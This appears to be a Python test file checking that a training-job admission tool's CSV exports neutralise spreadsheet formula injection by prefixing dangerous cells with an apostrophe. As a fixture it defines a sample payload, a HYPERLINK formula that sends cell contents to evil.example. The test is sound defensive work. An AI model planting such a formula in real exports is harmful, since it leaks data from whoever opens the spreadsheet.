"""``-o csv`` wherever the output is a table (decisions query and report, audit, policy test),
through the real console script: one writer (policies/offline/spreadsheet.py csv_text), every row parses back, and
a cell a submitter controls cannot run as a spreadsheet formula."""
from __future__ import annotations

import csv
import io
import subprocess

import yaml

from tests.unit.test_cli import ROOT, SCRIPT, STATE
from trainjob_admission.policies.offline.spreadsheet import csv_text
from trainjob_admission.webhook.decisionlog import DecisionLog

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def run(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([str(SCRIPT), *args], cwd=ROOT, capture_output=True, text=True, timeout=60)


def rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_formula_cells_get_an_apostrophe_and_everything_else_is_kept() -> None:
    text = csv_text(("a", "b", "c"), [["=1+1", "+x", "-2"], ["@SUM(A1)", "\tTAB", "plain, with \"quotes\""],
                                      [-3, 1.5, "a\nb"]])
    assert [list(row.values()) for row in rows(text)] == [
        ["'=1+1", "'+x", "'-2"], ["'@SUM(A1)", "'\tTAB", 'plain, with "quotes"'], ["-3", "1.5", "a\nb"]]
    assert text.startswith("a,b,c\n") and text.endswith("\n")


def test_decisions_query_and_report_csv_escape_what_submitters_wrote(tmp_path) -> None:
    path = tmp_path / "decisions.jsonl"
    quota = {"bundle": "default", "rule": "quota", "result": "fail", "effect": "deny", "messages": [FORMULA]}
    with DecisionLog(path, stdout=None, replica="pod-a") as log:
        for i, (user, decision) in enumerate([(FORMULA, "deny"), ("bob", "allow"), ("bob", "deny")]):
            denied = decision == "deny"
            log.append({"id": f"validate-{i}", "endpoint": "validate", "decision": decision, "namespace": "team-a",
                        "name": f"job-{i}", "user": user, "rules": [quota] if denied else [],
                        "messages": [FORMULA] if denied else []})
    query = run("decisions", "query", "--log", str(path), "-o", "csv")
    assert query.returncode == 0, query.stderr
    found = rows(query.stdout)
    assert [(r["id"], r["user"]) for r in found] == [("validate-0", "'" + FORMULA), ("validate-1", "bob"),
                                                     ("validate-2", "bob")]
    assert found[0]["messages"] == "'" + FORMULA

    assert run("decisions", "query", "--log", str(path), "-n", "team-b", "-o", "csv").stdout.count("\n") == 1
    report = run("decisions", "report", "--log", str(path), "-n", "team-a", "-o", "csv")
    assert report.returncode == 0 and report.stderr.startswith("verified: OK: 3 records"), report.stderr
    assert report.stdout.splitlines()[0] == "group,name,decision,count"
    assert [tuple(r.values()) for r in rows(report.stdout)] == [
        ("decision", "", "allow", "1"), ("decision", "", "deny", "2"),
        ("namespace", "team-a", "allow", "1"), ("namespace", "team-a", "deny", "2"),
        ("user", "'" + FORMULA, "deny", "1"), ("user", "bob", "allow", "1"), ("user", "bob", "deny", "1"),
        ("rule", "default/quota", "", "2"), ("refusal", "'" + FORMULA, "deny", "2")]


def test_audit_csv_has_a_row_per_result(tmp_path) -> None:
    job = yaml.safe_load((ROOT / "examples/jobs/too-many-gpus.yaml").read_text())
    job["metadata"]["name"] = "-cmd"  # not a valid Kubernetes name, but what a spreadsheet must not run
    jobs = tmp_path / "jobs.yaml"
    jobs.write_text(yaml.safe_dump(job))
    result = run("audit", *STATE, "--cluster-state", str(jobs), "-o", "csv")
    assert result.returncode == 1, result.stderr
    found = rows(result.stdout)
    assert found and {r["name"] for r in found} == {"'-cmd"}
    assert ("gpu-limits", "fail") in {(r["rule"], r["result"]) for r in found}


def test_policy_test_csv_has_a_row_per_case() -> None:
    fixtures = "tests/unit/fixtures/cases"
    as_json = run("policy", "test", "builtin:default", "--cases", fixtures, "-o", "json")
    as_csv = run("policy", "test", "builtin:default", "--cases", fixtures, "-o", "csv")
    assert as_csv.returncode == as_json.returncode == 1, as_csv.stderr
    expected = [(r["source"], r["name"], "pass" if r["passed"] else "fail", " | ".join(r["failures"]))
                for r in yaml.safe_load(as_json.stdout)["results"]]
    assert [tuple(r.values()) for r in rows(as_csv.stdout)] == expected
    assert any(result == "fail" and failures for _, _, result, failures in expected)
